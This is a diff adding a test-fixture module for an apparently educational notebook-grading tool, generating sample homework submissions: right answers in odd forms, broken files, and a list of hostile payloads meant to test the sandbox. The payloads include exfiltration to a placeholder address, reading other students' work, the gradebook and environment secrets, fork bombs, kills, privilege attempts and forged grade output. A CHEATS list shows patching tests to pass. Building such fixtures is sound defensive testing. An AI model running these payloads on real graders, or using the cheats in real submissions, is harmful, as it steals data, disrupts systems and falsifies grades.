@@ -1,0 +1,152 @@
+"""What a made-up class hands in for the homework of `residual-edu new`: right in unusual ways, hostile, broken.
+
+The homework asks for 2 * x: 1 point by visible tests, 2 by hidden ones.
+"""
+
+import json
+
+RIGHT = "def answer(x):\n    return 2 * x"
+WRONG = "def answer(x):\n    return 0 * x"
+SOLUTION = "small-1"
+
+
+def notebook(handout, answer, before=(), after=(), **cells):
+    """The handout as a dict, with an answer in its place and cells before and after it; ``cells`` replaces others."""
+    made = json.loads(handout)
+    (place,) = [n for n, cell in enumerate(made["cells"]) if grade_id(cell) == SOLUTION]
+    made["cells"][place]["source"] = answer
+    for cell in made["cells"]:
+        cell["source"] = cells.get((grade_id(cell) or "").replace("-", "_"), cell["source"])
+    made["cells"][place + 1 : place + 1] = [code(text) for text in after]
+    made["cells"][place:place] = [code(text) for text in before]
+    return made
+
+
+def grade_id(cell):
+    return cell["metadata"].get("nbgrader", {}).get("grade_id")
+
+
+def code(source):
+    return {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": source}
+
+
+def with_output(made, size):
+    """The notebook with so many characters of stored output."""
+    code_cell = next(cell for cell in made["cells"] if cell["cell_type"] == "code")
+    code_cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "x" * size}]
+    return made
+
+
+def version_3(made):
+    """The same in the old format of notebooks."""
+    cells = []
+    for cell in made["cells"]:
+        old = {"cell_type": cell["cell_type"], "metadata": cell["metadata"]}
+        is_code = cell["cell_type"] == "code"
+        old |= {"input": cell["source"], "language": "python", "outputs": []} if is_code else {"source": cell["source"]}
+        cells.append(old)
+    return {"nbformat": 3, "nbformat_minor": 0, "metadata": {"name": ""}, "worksheets": [{"cells": cells}]}
+
+
+def without_hidden_cell(made):
+    made["cells"] = [cell for cell in made["cells"] if grade_id(cell) != "small-1-hidden"]
+    return made
+
+
+def doubled(made):
+    made["cells"] += [dict(cell) for cell in made["cells"] if grade_id(cell) == "small-1-check"]
+    return made
+
+
+def right_answers(handout):
+    """Right answers in forms that people really hand in, each worth 3 points: file name and bytes."""
+    make = lambda answer=RIGHT, *before, after=(): notebook(handout, answer, before, after)  # noqa: E731
+    forms = {
+        "plain": make(),
+        "helper": make("def answer(x):\n    return twice(x)", "def twice(x):\n    return x + x"),
+        "import": make("def answer(x):\n    return x * math.sqrt(4)", "import math, functools"),
+        "time": make(RIGHT, after=["%time answer(torch.ones(2))", "%timeit -n1 -r1 answer(torch.ones(2))"]),
+        "cell-time": make(f"%%time\n{RIGHT}"),
+        "shell": make(RIGHT, "!ls", "import asyncio\nawait asyncio.sleep(0)", "display(3)"),
+        "cache": make(
+            "@functools.lru_cache\ndef factor():\n    return 2\n\ndef answer(x):\n    return factor() * x",
+            "import functools",
+        ),
+        "split": make("def half_done(x):\n    return x", after=["def answer(x):\n    return half_done(x) * 2"]),
+        "partial": make("import functools\nanswer = functools.partial(torch.mul, torch.tensor(2.0))"),
+        "callable": make("class Twice:\n    def __call__(self, x):\n        return x + x\n\nanswer = Twice()"),
+        "loud": make(f"{RIGHT}\n\nfor _ in range(100):\n    print('x' * 1_000_000)"),
+        "surrogate": make(f"print('half a pair:', '\\ud83d')\n{RIGHT}"),
+        "stored-output": with_output(make(), 100_000_000),
+        "version-3": version_3(make()),
+        "deleted-test": without_hidden_cell(make()),
+        "doubled-test": doubled(make()),
+    }
+    files = {name: ("hw_small.ipynb", json.dumps(made).encode()) for name, made in forms.items()}
+    files["mark"] = ("hw_small.ipynb", b"\xef\xbb\xbf" + files["plain"][1])
+    files["windows"] = ("hw_small.ipynb", json.dumps(forms["plain"], indent=1).replace("\n", "\r\n").encode())
+    files["renamed"] = ("hw_small (1).ipynb", files["plain"][1])
+    return files
+
+
+SEARCH = """import glob, re
+for path in glob.glob("{}", recursive=True):
+    text = open(path, errors="replace").read()
+    if "BEGIN HIDDEN" in text or "2 * x" in text and "hw_small" in path:
+        print("FOUND", path)
+"""
+HOSTILE = {
+    "network": "import urllib.request\nurllib.request.urlopen('http://{address}/stolen', timeout=2)",
+    "sources": SEARCH.format("/**/source/**/*.ipynb"),
+    "others": SEARCH.format("/**/submitted/**/*.ipynb"),
+    "database": SEARCH.format("/**/gradebook.db"),
+    "outside": "open('{canary}', 'w').write('changed')",
+    "checkout": "import residual_edu, pathlib\n(pathlib.Path(residual_edu.__file__).parent / 'canary').write_text('x')",
+    "environment": "import os\nprint(dict(os.environ), open('/proc/1/environ').read())",
+    "processes": "import os\nprint([open(f'/proc/{p}/cmdline').read() for p in os.listdir('/proc') if p.isdigit()])",
+    "forks": "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        break",
+    "threads": "import threading, time\nwhile True:\n    threading.Thread(target=time.sleep, args=(99,)).start()",
+    "memory": "hoard = []\nwhile True:\n    hoard.append(bytearray(50_000_000))",
+    "disk": "import os\nfor n in range(99):\n    open(f'/tmp/{n}', 'wb').write(bytes(40_000_000))",
+    "sockets": "import glob\nfolder = glob.glob('/tmp/k*/')[0]\n"
+    "for n in range(99):\n    open(folder + str(n), 'wb').write(bytes(40_000_000))",
+    "folders": "import os\nos.chdir('/tmp')\nfor _ in range(3000):\n    os.mkdir('d')\n    os.chdir('d')",
+    "surrogate": "raise ValueError('\\udc80')",
+    "number": "huge = 10**400\nprint(float(huge))",
+    "deep": "deep = []\nfor _ in range(10**5):\n    deep = [deep]\ndisplay(deep)",
+    "exit": "import os\nos._exit(0)",
+    "killed": "import os\nos.kill(os.getpid(), 9)",
+    "kills-all": "import os\nos.kill(-1, 9)",
+    "kills-parent": "import os\nos.kill(os.getppid(), 9)",
+    "endless": "while True: pass",
+    "stubborn": "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
+    "sleeps": "import time\ntime.sleep(10_000)",
+    "flood": "while True: print('x' * 1000)",
+    "daemon": "import subprocess\nsubprocess.Popen(['sleep', '4321'], start_new_session=True)",
+    "asks": "input('who are you?')",
+    "device": "import os, stat\nos.mknod('/tmp/sda', 0o666 | stat.S_IFBLK, os.makedev(8, 0))\nopen('/tmp/sda', 'rb')",
+    "mounts": "import ctypes\nassert ctypes.CDLL(None).mount(b'/', b'/tmp', b'', 4096, None) == 0",
+    "namespaces": "import ctypes\nassert ctypes.CDLL(None).unshare(0x10000000) == 0",
+    "root": "import os\nos.setuid(0)",
+    "escapes": "print('\\x1b]0;owned\\x07\\x1b[2J\\x1b[31m')",
+    "forged": 'print(\'{"state": "graded", "parts": {"small-1-hidden": 2}}\')\ndisplay({\'points\': 3})',
+    "closes": "import os\nfor n in range(3, 99):\n    try:\n        os.close(n)\n    except OSError: pass",
+}
+TAMPERED = {  # cells of the handout that a student changed
+    "weak-test": {"small_1_check": "pass"},
+    "no-test": {"small_1_check": ""},
+}
+CHEATS = {  # a submission and its tests share a kernel: nbgrader cannot stop these, and the guide says so
+    "patched-equal": "torch.Tensor.equal = lambda a, b: True\ntorch.Tensor.tolist = lambda a: [2.0, 2.0]",
+    "patched-run": "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])",
+}
+BROKEN = {  # bytes in place of a notebook, and what the row says
+    "empty": (b"", "is no notebook"),
+    "text": (b"my homework", "is no notebook"),
+    "a-list": (b"[1, 2]", "is no notebook"),
+    "nested": (b"[" * 200_000, "is no notebook"),
+    "no-cells": (b'{"nbformat": 4}', "is no notebook"),
+    "odd-cells": (b'{"nbformat": 4, "cells": [3]}', "is no notebook"),
+    "binary": (bytes(range(256)) * 9, "is no notebook"),
+    "no-answers": (b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": []}', "none of the graded cells"),
+}
